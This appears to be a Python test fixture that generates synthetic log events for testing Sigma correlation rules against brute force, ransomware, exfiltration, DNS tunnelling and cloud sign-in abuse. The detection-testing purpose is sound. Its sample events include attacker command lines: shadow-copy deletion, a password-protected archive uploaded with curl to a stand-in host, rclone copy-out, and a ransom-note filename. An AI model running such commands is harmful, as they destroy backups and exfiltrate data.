"""For each correlation of content/sigma: events that it must match, and similar ones that it must not.

Events are made, not kept: most are the same line many times with another name, address or minute.
"""
import datetime

BEGIN = datetime.datetime(2026, 11, 20, 9, 0, tzinfo=datetime.timezone.utc)


def at(seconds):
    return (BEGIN + datetime.timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


def security(seconds, number, **more):
    return {"TimeCreated": at(seconds), "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing",
            "EventID": number, "Computer": "pc-17.example", **more}


def signin(seconds, number=4624, user="sato", address="10.20.1.17", kind=3, host="srv-1.example"):
    return security(seconds, number, TargetUserName=user, IpAddress=address, LogonType=kind, Computer=host)


def program(seconds, image, command, host="pc-17.example"):
    return {"TimeCreated": at(seconds), "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
            "Image": image, "CommandLine": command, "ParentImage": "C:\\Windows\\explorer.exe", "Computer": host,
            "User": "EXAMPLE\\sato"}


def shadows(seconds, host="pc-17.example"):
    return program(seconds, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet", host)


def note(seconds, host="pc-17.example"):
    return {"TimeCreated": at(seconds), "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11,
            "Computer": host, "Image": "C:\\ProgramData\\l.exe",
            "TargetFilename": "D:\\share\\keiri\\HOW_TO_DECRYPT_FILES.txt"}


def packed(seconds, host="pc-17.example"):
    return program(seconds, "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pSecret o.7z C:\\work", host)


def uploaded(seconds, host="pc-17.example"):
    return program(seconds, "C:\\Windows\\System32\\curl.exe", "curl.exe -T o.7z https://files.example/in/", host)


def rclone(seconds, host="pc-17.example"):
    return program(seconds, "C:\\ProgramData\\rclone.exe", "rclone.exe copy C:\\work remote:in", host)


def service(seconds, host):
    return {"TimeCreated": at(seconds), "Channel": "System", "Provider_Name": "Service Control Manager", "EventID": 7045,
            "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "Computer": host}


def cleared(seconds, host="pc-17.example"):
    return {"TimeCreated": at(seconds), "Channel": "Security", "Provider_Name": "Microsoft-Windows-Eventlog",
            "EventID": 1102, "SubjectUserName": "sato", "Computer": host}


def ticket(seconds, name, user="sato@EXAMPLE"):
    return security(seconds, 4769, TargetUserName=user, ServiceName=name, TicketEncryptionType="0x17", Status="0x0")


def sshd(seconds, text, host="web-3"):
    """As syslog has it; address and user are found by content/parsers."""
    return f"<38>1 {at(seconds)} {host} sshd 812 - - {text}"


def refused(seconds, host="web-3", user="root", address="203.0.113.77"):
    return sshd(seconds, f"Failed password for {user} from {address} port {40000 + seconds} ssh2", host)


def accepted(seconds, host="web-3", how="password", address="203.0.113.77"):
    return sshd(seconds, f"Accepted {how} for sato from {address} port {40000 + seconds} ssh2", host)


def entra(seconds, code, user="sato@demo.example", address="198.51.100.7", country="JP"):
    """As Azure Monitor writes it to an event hub."""
    return {"time": at(seconds), "category": "SignInLogs", "operationName": "Sign-in activity", "location": country,
            "resourceId": "/tenants/1/providers/Microsoft.aadiam", "callerIpAddress": address, "resultType": str(code),
            "properties": {"userPrincipalName": user, "ipAddress": address}}


def graph(seconds, country, user="sato@demo.example"):
    """The same as an object of Microsoft Graph."""
    return {"createdDateTime": at(seconds), "timestamp": at(seconds), "conditionalAccessStatus": "success",
            "appDisplayName": "Mail", "userPrincipalName": user, "ipAddress": "198.51.100.7",
            "status": {"errorCode": 0}, "location": {"countryOrRegion": country}}


def okta(seconds, kind, country="Japan", user="sato@demo.example"):
    return {"published": at(seconds), "uuid": f"u{seconds}", "eventType": kind, "outcome": {"result": "SUCCESS"},
            "actor": {"alternateId": user}, "client": {"geographicalContext": {"country": country}}}


def aws(seconds, source, name, arn="arn:aws:iam::1:user/sato", **more):
    return {"eventTime": at(seconds), "eventVersion": "1.08", "eventSource": source, "awsRegion": "ap-northeast-1",
            "eventName": name, "userIdentity": {"type": "IAMUser", "arn": arn, "userName": arn.split("/")[-1]}, **more}


def denied(seconds, name):
    return aws(seconds, "ec2.amazonaws.com", name, errorCode="Client.UnauthorizedOperation")


def key(seconds, **more):
    return aws(seconds, "iam.amazonaws.com", "CreateAccessKey", requestParameters={"userName": "backup"}, **more)


def trail(seconds, **more):
    return aws(seconds, "cloudtrail.amazonaws.com", "StopLogging", **more)


def m365(seconds, operation, user="sato@demo.example", **more):
    return {"CreationTime": at(seconds), "Workload": "OneDrive", "RecordType": 6, "Operation": operation, "UserId": user,
            **more}


def got(seconds, number, user="sato@demo.example"):
    return m365(seconds, "FileDownloaded", user, ObjectId=f"https://demo.example/d/{number}.xlsx")


def forward(seconds, user="sato@demo.example"):
    return m365(seconds, "New-InboxRule", user, Parameters=[{"Name": "ForwardTo", "Value": "x@mail.example"}])


def upload(seconds, size, user="sato"):
    return {"@timestamp": at(seconds), "product": "squid", "category": "proxy", "c-ip": "10.20.1.17",
            "cs-username": user, "cs-method": "POST", "cs-host": "up.files.example", "c-uri": "https://up.files.example/",
            "c-useragent": "Mozilla/5.0", "sc-status": 200, "cs-bytes": size}


def dns(seconds, label, client="10.20.1.17"):
    return {"@timestamp": at(seconds), "category": "dns", "product": "zeek", "src_ip": client, "record_type": "TXT",
            "query": f"{label}.t.files.example"}


def web(seconds, stem, status=200, agent="Mozilla/5.0", client="198.51.100.7", method="GET"):
    return {"@timestamp": at(seconds), "product": "nginx", "category": "webserver", "host": "web-3", "c-ip": client,
            "cs-method": method, "cs-uri-stem": stem, "cs-uri-query": "-", "sc-status": status, "cs-user-agent": agent}


def read(seconds, number, share="\\\\*\\keiri", user="sato", mask="0x1"):
    return security(seconds, 5145, SubjectUserName=user, ShareName=share, RelativeTargetName=f"2026\\{number}.xlsx",
                    AccessMask=mask)


def usb(seconds, number, mask="0x2"):
    return security(seconds, 4663, Task=12812, SubjectUserName="sato", AccessMask=mask,
                    ObjectName=f"\\Device\\HarddiskVolume7\\{number}.xlsx")


def each(count, make, step=1):
    return [make(i * step, i) for i in range(count)]


# name of the rule's file → (what matches, what does not)
SEQUENCES = {
    "related_windows_password_guessing": (
        each(10, lambda t, i: signin(t, 4625), 20),
        each(9, lambda t, i: signin(t, 4625), 20) + [signin(190, 4625, address="10.20.1.18"), signin(600, 4625)]),
    "related_windows_password_guessed": (
        each(5, lambda t, i: signin(t, 4625), 60) + [signin(400)],
        each(5, lambda t, i: signin(t, 4625), 60) + [signin(400, user="ito"), signin(400, address="10.20.1.18")]),
    "related_windows_password_spraying": (
        each(6, lambda t, i: signin(t, 4625, user=f"user{i}"), 30)
        + each(4, lambda t, i: security(200 + t, 4771, Status="0x18", TargetUserName=f"other{i}", IpAddress="10.20.1.17"), 30),
        each(12, lambda t, i: signin(t, 4625, user=f"user{i % 9}"), 30)),
    "related_windows_lockouts": (
        each(10, lambda t, i: security(t, 4740, TargetUserName=f"user{i}"), 50),
        each(10, lambda t, i: security(t, 4740, TargetUserName=f"user{i}"), 90)),
    "related_windows_many_hosts": (
        each(8, lambda t, i: signin(t, host=f"srv-{i}.example", kind=10 if i % 2 else 3), 40),
        each(8, lambda t, i: signin(t, host=f"srv-{i}.example", user="SRV-9$"), 40)
        + each(7, lambda t, i: signin(t, host=f"srv-{i}.example"), 40)),
    "related_remote_service_on_hosts": (
        each(3, lambda t, i: service(t, f"pc-{i}.example"), 300),
        each(3, lambda t, i: service(t, f"pc-{i % 2}.example"), 300)),
    "related_new_administrator_remote_desktop": (
        [security(0, 4732, TargetSid="S-1-5-32-544"), signin(3600, kind=10, host="pc-17.example")],
        [signin(0, kind=10, host="pc-17.example"), security(60, 4732, TargetSid="S-1-5-32-544"),
         signin(90, kind=10, host="pc-18.example"), signin(120, kind=3, host="pc-17.example")]),
    "related_new_account_used": (
        [security(0, 4720, TargetUserName="helper"), signin(1800, user="helper", host="pc-17.example")],
        [security(0, 4720, TargetUserName="helper"), signin(1800, user="sato", host="pc-17.example"),
         signin(7200, user="helper", host="pc-17.example")]),
    "related_kerberoasting": (
        each(4, lambda t, i: ticket(t, f"svc-{i}"), 5),
        each(3, lambda t, i: ticket(t, f"svc-{i}"), 5) + [ticket(20, "svc-9", "ito@EXAMPLE")]),
    "related_ransomware_on_host": (
        [shadows(0), note(600)], [shadows(0), note(600, "pc-18.example"), note(3600)]),
    "related_ransomware_on_hosts": (
        [shadows(0, "pc-1.example"), note(200, "pc-2.example"), shadows(800, "pc-3.example")],
        [shadows(0, "pc-1.example"), note(200, "pc-2.example"), shadows(1000, "pc-3.example")]),
    "related_packed_then_copied_out": ([packed(0), rclone(3600)], [rclone(0), packed(60), rclone(9000)]),
    "related_packed_then_uploaded": ([packed(0), uploaded(3600)], [uploaded(0), packed(60), uploaded(70, "pc-18.example")]),
    "related_proxy_upload_volume": (
        each(6, lambda t, i: upload(t, 90000000), 500),
        each(5, lambda t, i: upload(t, 90000000), 500) + [upload(600, 90000000, "ito"), upload(700, 900000)]),
    "related_log_cleared_with_alerts": (
        [service(0, "pc-17.example"), cleared(3600)], [service(0, "pc-18.example"), cleared(3600), shadows(20000)]),
    "related_dns_tunnel": (
        each(100, lambda t, i: dns(t, f"4d5a9000030000000400{i:08x}"), 5),
        each(120, lambda t, i: dns(t, f"4d5a9000030000000400{i % 99:08x}"), 2)
        + each(120, lambda t, i: dns(t, f"name{i}"), 2)),
    "related_web_many_errors": (
        each(200, lambda t, i: web(t, f"/a{i}", 404)), each(240, lambda t, i: web(t, f"/a{i % 199}", 404))),
    "related_web_scan_then_script": (
        [web(0, "/", agent="sqlmap/1.8 (https://sqlmap.org)"), web(7200, "/uploads/a.php", method="POST")],
        [web(0, "/", agent="sqlmap/1.8 (https://sqlmap.org)"),
         web(7200, "/uploads/a.php", method="POST", client="198.51.100.8")]),
    "related_sshd_guessing": (each(30, lambda t, i: refused(t), 10), each(29, lambda t, i: refused(t), 10)),
    "related_sshd_guessed": (
        each(10, lambda t, i: refused(t), 10) + [accepted(300)],
        each(10, lambda t, i: refused(t), 10)
        + [accepted(300, how="publickey"), accepted(300, "web-4"), accepted(301, address="203.0.113.78"), accepted(900)]),
    "related_sshd_password_spraying": (
        each(10, lambda t, i: refused(t, user=f"user{i}"), 170),
        each(20, lambda t, i: refused(t, user=f"user{i % 9}"), 80)
        + each(9, lambda t, i: refused(t, user=f"user{i}", address="203.0.113.78"), 80)),
    "related_azure_password_guessing": (
        each(20, lambda t, i: entra(t, 50126, address=f"198.51.100.{i}"), 25),
        each(20, lambda t, i: entra(t, 50126, address=f"198.51.100.{i}"), 40)),
    "related_azure_password_spraying": (
        each(10, lambda t, i: entra(t, 50126, user=f"u{i}@demo.example"), 120),
        each(12, lambda t, i: entra(t, 50126, user=f"u{i % 9}@demo.example"), 120)),
    "related_azure_password_guessed": (
        each(5, lambda t, i: entra(t, 50126), 60) + [entra(500, 0)],
        each(5, lambda t, i: entra(t, 50126), 60) + [entra(500, 0, address="198.51.100.8")]),
    "related_azure_many_addresses": (
        each(5, lambda t, i: entra(t, 0, address=f"198.51.100.{i}"), 600),
        each(8, lambda t, i: entra(t, 0, address=f"198.51.100.{i % 4}"), 400)),
    "related_azure_impossible_travel": (
        [graph(0, "JP"), graph(1800, "NL")],
        [graph(0, "JP"), graph(1800, "JP"), graph(1900, "NL", "ito@demo.example"), graph(9000, "NL"),
         entra(60, 50126, country="NL")]),
    "related_okta_impossible_travel": (
        [okta(0, "user.session.start"), okta(1800, "user.session.start", "Netherlands")],
        [okta(0, "user.session.start"), okta(1800, "user.session.start", "Netherlands", "ito@demo.example"),
         okta(5400, "user.session.start", "Netherlands")]),
    "related_okta_push_flood": (
        each(5, lambda t, i: okta(t, "user.mfa.okta_verify.deny_push"), 60),
        each(4, lambda t, i: okta(t, "user.mfa.okta_verify.deny_push"), 60) + [okta(900, "user.mfa.okta_verify.deny_push")]),
    "related_aws_many_refusals": (
        each(10, lambda t, i: denied(t, f"Describe{i}"), 30), each(20, lambda t, i: denied(t, f"Describe{i % 9}"), 20)),
    "related_aws_key_and_trail": (
        [trail(0), key(7200)], [trail(0), key(7200, arn="arn:aws:iam::1:user/ito"), key(90000)]),
    "related_m365_mass_download": (
        each(200, got, 10), each(230, lambda t, i: got(t, i % 199), 10)),
    "related_m365_forward_and_download": (
        [forward(0)] + each(200, lambda t, i: got(3600 + t, i), 5),
        [forward(0, "ito@demo.example")] + each(200, lambda t, i: got(3600 + t, i), 5)),
    "related_share_mass_read": (
        each(500, lambda t, i: read(t, i)),
        each(450, lambda t, i: read(t, i)) + each(99, lambda t, i: read(t, 1000 + i, mask="0x100080"))
        + each(99, lambda t, i: read(t, 2000 + i, "\\\\*\\SYSVOL"))),
    "related_removable_mass_copy": (
        each(50, usb, 30), each(49, usb, 30) + each(50, lambda t, i: usb(t, 100 + i, "0x1"), 30)),
}
